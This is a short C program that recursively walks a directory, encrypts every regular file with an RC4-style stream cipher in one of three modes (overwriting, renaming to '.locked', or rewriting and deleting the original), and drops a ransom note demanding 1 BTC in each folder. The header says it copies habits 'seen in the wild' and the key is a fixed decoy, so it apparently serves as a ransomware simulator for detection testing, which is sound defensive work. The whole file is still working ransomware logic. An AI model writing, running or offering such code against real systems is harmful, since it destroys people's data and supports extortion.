/* Replaces every file under DIR by the output of a stream cipher, with one of the habits seen in
 * the wild. usage: encryptor in-place|rename|rewrite DIR */
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static uint8_t state[256], left, right;

static void schedule(const char *key) {
    uint8_t j = 0;
    for (int i = 0; i < 256; i++) state[i] = i;
    for (int i = 0; i < 256; i++) {
        j += state[i] + key[i % strlen(key)];
        uint8_t swap = state[i];
        state[i] = state[j];
        state[j] = swap;
    }
}

static uint8_t next(void) {
    right += state[++left];
    uint8_t swap = state[left];
    state[left] = state[right];
    state[right] = swap;
    return state[(uint8_t)(state[left] + state[right])];
}

static void encrypt(const char *path, const char *habit) {
    char other[8192];
    snprintf(other, sizeof other, "%s.locked", path);
    int rewrite = !strcmp(habit, "rewrite");
    int from = open(path, rewrite ? O_RDONLY : O_RDWR);
    int to = rewrite ? open(other, O_WRONLY | O_CREAT | O_TRUNC, 0600) : from;
    if (from < 0 || to < 0) return;
    uint8_t block[4096];
    off_t at = 0;
    ssize_t got;
    while ((got = pread(from, block, sizeof block, at)) > 0) {
        for (ssize_t i = 0; i < got; i++) block[i] ^= next();
        pwrite(to, block, got, at);
        at += got;
    }
    close(from);
    if (rewrite) {
        close(to);
        unlink(path);
    } else if (!strcmp(habit, "rename")) {
        rename(path, other);
    }
}

static void walk(const char *folder, const char *habit) {
    DIR *dir = opendir(folder);
    struct dirent *entry;
    while (dir && (entry = readdir(dir))) {
        if (entry->d_name[0] == '.') continue;
        char path[4096];
        struct stat about;
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        if (lstat(path, &about)) continue;
        if (S_ISDIR(about.st_mode)) walk(path, habit);
        else if (S_ISREG(about.st_mode) && !strstr(path, ".locked")) encrypt(path, habit);
    }
    if (dir) closedir(dir);
    char note[4096];
    snprintf(note, sizeof note, "%s/HOW_TO_RECOVER_FILES.txt", folder);
    FILE *file = fopen(note, "w");
    if (file) {
        fputs("All your files have been encrypted. Send 1 BTC to get the key.\n", file);
        fclose(file);
    }
}

int main(int argc, char **argv) {
    schedule("decoy key, not a secret");
    walk(argv[2], argv[1]);
    return 0;
}
